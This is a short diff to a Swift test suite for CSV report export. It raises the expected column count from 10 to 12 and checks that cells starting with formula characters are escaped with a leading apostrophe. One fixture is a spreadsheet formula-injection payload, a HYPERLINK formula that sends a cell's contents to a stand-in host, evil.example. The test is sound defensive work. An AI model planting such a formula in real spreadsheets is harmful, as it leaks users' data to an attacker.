@@ -53,9 +53,9 @@ struct ReportCSVTests {
         for name in names {
             let expected = "=+-@\t\r".unicodeScalars.contains(name.unicodeScalars.first!) ? "'" + name : name
             let row = try #require(byName[expected], "\(name.debugDescription) is missing from \(text.debugDescription)")
-            #expect(row.count == 10)
+            #expect(row.count == 12)
         }
-        #expect(text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",CN-GD,true,1,1,10,0,10,0.0\r\n"))
+        #expect(text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",CN-GD,true,1,1,10,0,10,0.0,0,\r\n"))
         #expect(text.contains(",'-Minus Fab,CN-GD,true,"))
         #expect(text.contains(",\"'\rReturn Fab\",CN-GD,true,"))
         #expect(text.contains(",Hyphen-Middle Fab,CN-GD,true,"))
